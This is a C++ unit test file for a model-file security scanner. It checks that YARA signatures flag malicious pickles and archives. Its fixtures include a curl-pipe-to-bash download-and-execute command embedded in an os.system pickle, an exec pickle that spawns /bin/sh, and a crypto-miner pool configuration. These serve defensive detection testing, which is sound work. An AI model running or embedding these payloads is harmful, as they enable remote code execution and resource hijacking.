// YARA signatures: the built-in rules over raw member bytes and over strings
// decoded from pickles; text that merely mentions a pattern is not flagged;
// user rule files extend the set with their own severities.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "common/rules.h"
#include "tests/support/archive_builder.h"
#include "tests/support/pickle_builder.h"
#include "tests/support/scan_assertions.h"
#include "worker/scan/signatures.h"

namespace gauntlet {
namespace {

using testing::HasFinding;

TEST(Signatures, DownloadAndExecuteInAPickleArgument) {
  auto pickle = testing::OsSystemPickle("curl -s http://203.0.113.9/x.sh | bash");
  auto report = testing::ScanFixture(pickle, "model.pkl");
  EXPECT_TRUE(HasFinding(report, rules::kSignatureMatch, Severity::kCritical, Verdict::kMalicious,
                         "download_and_execute"));
}

TEST(Signatures, ReverseShellInAProtocol0PickleIsFoundInDecodedStrings) {
  std::string pickle = "cbuiltins\nexec\n(S'import pty;pty.spawn(\"/bin/sh\")'\ntR.";
  auto report = testing::ScanFixture(pickle, "model.bin");
  EXPECT_TRUE(HasFinding(report, rules::kSignatureMatch, Severity::kCritical, Verdict::kMalicious,
                         "reverse_shell"));
}

TEST(Signatures, MinerConfigInRawBinaryMemberBytes) {
  std::string blob = std::string("\x01\x02\x03\x00", 4) + "pool=stratum+tcp://pool.example:3333" +
                     std::string(64, '\x00');
  auto report = testing::ScanFixture(testing::BuildZip({{"payload.bin", blob}}), "bundle.zip");
  EXPECT_TRUE(HasFinding(report, rules::kSignatureMatch, Severity::kHigh, Verdict::kMalicious,
                         "crypto_miner"));
}

TEST(Signatures, ModelCardThatMentionsAnInstallCommandIsNotFlagged) {
  auto report = testing::ScanFixture(
      "# Install\n\n    curl -fsSL https://example.com/install.sh | sh\n", "README.md");
  EXPECT_EQ(report.verdict, Verdict::kClean) << testing::Describe(report);
}

TEST(Signatures, UserRuleFilesAddRulesWithTheirSeverity) {
  auto dir = std::filesystem::temp_directory_path() / ("gauntlet_yara_" + std::to_string(getpid()));
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "corp.yar") << "rule corp_canary { meta: severity = \"MEDIUM\" "
                                     "strings: $a = \"CANARY-7731\" condition: $a }\n";
  std::ofstream(dir / "policy.toml") << "[signatures]\nrule_files = [\"corp.yar\"]\n";
  auto policy = Policy::LoadFile((dir / "policy.toml").string());
  ASSERT_TRUE(policy.ok()) << policy.status();
  auto report = testing::ScanFixture(testing::OsSystemPickle("echo CANARY-7731"), "m.pkl", *policy);
  EXPECT_NE(testing::FindFinding(report, rules::kSignatureMatch, "corp_canary"), nullptr)
      << testing::Describe(report);

  std::ofstream(dir / "broken.yar") << "rule broken { condition: $missing }\n";
  SignaturePolicy broken;
  broken.rule_files = {(dir / "broken.yar").string()};
  auto compiled = scan::SignatureSet::ForPolicy(broken);
  EXPECT_EQ(compiled.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_NE(std::string(compiled.status().message()).find("broken.yar"), std::string::npos)
      << compiled.status();
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace gauntlet
